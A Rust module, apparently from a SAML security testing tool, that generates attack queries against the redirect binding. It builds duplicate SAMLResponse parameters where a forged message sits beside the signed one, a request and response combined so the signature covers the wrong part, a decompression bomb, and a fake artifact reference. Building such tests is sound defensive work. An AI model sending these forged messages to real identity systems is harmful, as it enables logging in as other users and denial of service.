//! Attacks on the binding: messages in a query, where a Response has no business (saml-profiles 4.1.2).

use alloc::{format, string::String, vec, vec::Vec};

use base64::{Engine, prelude::BASE64_STANDARD};
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};

use super::{Genuine, Message};

type Messages = Vec<Message>;

/// Two messages under one name, of which one is read and one was signed.
pub(super) fn repeated_parameter(genuine: &Genuine<'_>) -> Messages {
    let Some(unsigned) = genuine.document.unsigned() else { return Vec::new() };
    let (genuine_value, forged) = (
        deflated(&genuine.document.source),
        deflated(&unsigned.around(&unsigned.forged(genuine.victim, ""))),
    );
    ["SAMLResponse", "SAML%52esponse"]
        .map(|name| {
            Message::Query(format!(
                "SAMLResponse={forged}&{name}={genuine_value}{}",
                signature(genuine, "SAMLResponse", &genuine_value)
            ))
        })
        .into()
}

/// A request and a response in one query: one is read, the other was signed.
pub(super) fn request_and_response(genuine: &Genuine<'_>) -> Messages {
    let Some(unsigned) = genuine.document.unsigned() else { return Vec::new() };
    let forged = deflated(&unsigned.around(&unsigned.forged(genuine.victim, "")));
    let request = deflated("<samlp:AuthnRequest xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"/>");
    vec![Message::Query(format!(
        "SAMLRequest={request}&SAMLResponse={forged}{}",
        signature(genuine, "SAMLRequest", &request)
    ))]
}

/// A few bytes that inflate to megabytes.
pub(super) fn inflating(_: &Genuine<'_>) -> Messages {
    vec![Message::Query(format!("SAMLResponse={}", deflated(&" ".repeat(20 << 20))))]
}

/// A reference to a message, which has to be fetched; whoever answers may say anything.
pub(super) fn artifact(_: &Genuine<'_>) -> Messages {
    let artifact = BASE64_STANDARD.encode([&[0, 4, 0, 0][..], &[7; 40]].concat());
    vec![Message::Query(format!("SAMLart={}", encoded(&artifact)))]
}

/// The signature over the part of the query that the attacker got signed.
fn signature(genuine: &Genuine<'_>, name: &str, value: &str) -> String {
    let Some(key) = genuine.idp_key else { return String::new() };
    let algorithm = encoded("http://www.w3.org/2001/04/xmldsig-more#rsa-sha256");
    let message = format!("{name}={value}&SigAlg={algorithm}");
    let signature = key.sign(key.default_scheme(), message.as_bytes()).unwrap_or_default();
    format!("&SigAlg={algorithm}&Signature={}", encoded(&BASE64_STANDARD.encode(signature)))
}

fn deflated(xml: &str) -> String {
    encoded(&BASE64_STANDARD.encode(miniz_oxide::deflate::compress_to_vec(xml.as_bytes(), 6)))
}

fn encoded(text: &str) -> String {
    utf8_percent_encode(text, NON_ALPHANUMERIC).collect()
}
